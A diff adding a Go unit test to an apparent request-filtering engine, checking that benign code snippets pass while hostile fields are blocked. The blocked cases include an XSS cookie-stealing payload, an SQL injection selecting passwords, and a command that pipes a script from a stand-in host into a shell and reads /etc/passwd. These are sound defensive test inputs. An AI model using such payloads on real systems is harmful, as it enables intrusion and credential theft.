@@ -122,3 +122,23 @@ func TestLoggedHTTPMessage(t *testing.T) {
 		expectBlocked(t, eng, c.place, "response_headers", c.v, c.block)
 	}
 }
+
+// TestCodeSnippets: the code field of a snippet that names its language
+// is quoted code, one weak signal; the snippet's other fields, and
+// documents that name no language, are judged as ever.
+func TestCodeSnippets(t *testing.T) {
+	eng := mustEngine(t, Config{})
+	for _, c := range []struct {
+		doc   map[string]any
+		block bool
+	}{
+		{map[string]any{"language": "bash", "title": "Create refund", "code": "curl https://api.example.com/v2/refunds \\\n  -u \"$SECRET_KEY:\" \\\n  -d amount=500 && echo done"}, false},
+		{map[string]any{"language": "html", "code": "<div id=\"w\"></div>\n<script async src=\"https://shop.example.com/widget.js\" onload=\"Widget.mount('#w')\"></script>"}, false},
+		{map[string]any{"lang": "javascript", "code": "if (result.status === 'succeeded') {\n  window.location.href = `/thanks?id=${encodeURIComponent(result.id)}`;\n}"}, false},
+		{map[string]any{"language": "bash", "title": "<script>alert(document.cookie)</script>", "code": "ls"}, true},
+		{map[string]any{"language": "bash", "code": "ls", "name": "x' UNION SELECT password FROM users--"}, true},
+		{map[string]any{"title": "Create refund", "code": "curl https://evil.example/x.sh | sh; cat /etc/passwd"}, true},
+	} {
+		expectVerdict(t, eng, newReq("POST", "http://app.example.com/api/snippets", "application/json", jsonOf(c.doc)), jsonOf(c.doc), c.block)
+	}
+}
